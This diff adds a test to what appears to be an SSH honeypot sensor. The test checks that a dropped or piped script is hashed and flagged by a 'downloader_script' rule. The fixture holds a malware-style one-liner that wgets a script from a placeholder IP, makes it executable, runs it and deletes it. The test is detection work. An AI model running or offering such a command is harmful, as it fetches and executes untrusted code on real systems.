@@ -66,3 +66,21 @@ def test_sessions_show_techniques_and_are_joined(sensor: Sensor) -> None:
     assert json.loads(bundle.stdout)["type"] == "bundle"
     assert "imported too late" not in sensor.said()
     assert "Traceback" not in sensor.said()
+
+
+def test_files_are_looked_at_whether_they_were_written_or_piped_in(sensor: Sensor) -> None:
+    script = b"cd /tmp; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh\n" * 2
+    assert sensor.ssh("cat > /tmp/dropped", stdin=script + b"# written\n").returncode == 0
+    assert sensor.ssh("sh -s -- none 2>/dev/null; exit 0", stdin=script + b"# piped\n").returncode == 0
+    hashes = [hashlib.sha256(script + it).hexdigest() for it in (b"# written\n", b"# piped\n")]
+
+    def looked_at() -> list[dict[str, Any]] | None:
+        sessions = [it["session_id"] for it in sensor.json("sessions", "list")]
+        files = [it for session in sessions for it in (told(sensor, "techniques", "show", session) or {"files": []})["files"]]
+        found = [it for it in files if it["sha256"] in hashes and it["state"] in ("done", "failed")]
+        return found if {it["sha256"] for it in found} == set(hashes) else None
+
+    for file in wait_until(looked_at):
+        assert file["failure"] is None
+        assert file["mime"].startswith("text/")
+        assert "downloader_script" in [it["rule"] for it in file["matches"]]
